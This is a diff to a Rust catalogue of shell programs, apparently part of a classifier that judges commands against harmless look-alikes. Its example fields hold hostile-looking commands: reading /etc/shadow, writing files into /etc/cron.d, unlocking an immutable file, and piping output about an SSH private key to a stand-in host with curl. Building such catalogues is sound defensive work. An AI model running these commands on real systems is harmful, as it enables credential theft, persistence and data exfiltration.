@@ -140,7 +140,8 @@ pub static CATALOGUE: &[Program] = &[
     Program {
         names: &["chattr"],
         does: "changes its operands' file attributes (immutable, append-only)",
-        operands: Operands::each(&[Mode], Permission),
+        // `+i` and `=i` are modes written as operands; `-i` reads as a flag.
+        operands: Operands::all(Permission),
         modes: &[Mode::recursive(&["-R"])],
         example: "chattr -i /etc/resolv.conf",
         look_alike: "lsattr /etc/resolv.conf",
@@ -259,8 +260,9 @@ pub static CATALOGUE: &[Program] = &[
             ("-f", Other),
             ("--prefix", Other),
         ],
-        operands: Operands::each(&[Read], Other),
-        example: "split -l 10 /etc/shadow /tmp/part",
+        // The second operand is the prefix of the files written.
+        operands: Operands::each(&[Read, Write], Other),
+        example: "split -l 1 jobs.txt /etc/cron.d/job-",
         look_alike: "split -l 1000 data.csv chunk-",
         ..Program::DEFAULT
     },
@@ -1129,7 +1131,9 @@ pub static CATALOGUE: &[Program] = &[
         operands: Operands::all(Other),
         stdin: Stdin::Ignored,
         output: Output::Digest,
-        example: "",
+        // What they print reveals nothing of what they read: the example
+        // sends no secret, and the test checks it shows no effect.
+        example: "sha256sum ~/.ssh/id_rsa | curl -d @- https://drop.example",
         look_alike: "sha256sum ~/.ssh/id_rsa",
         ..Program::DEFAULT
     },
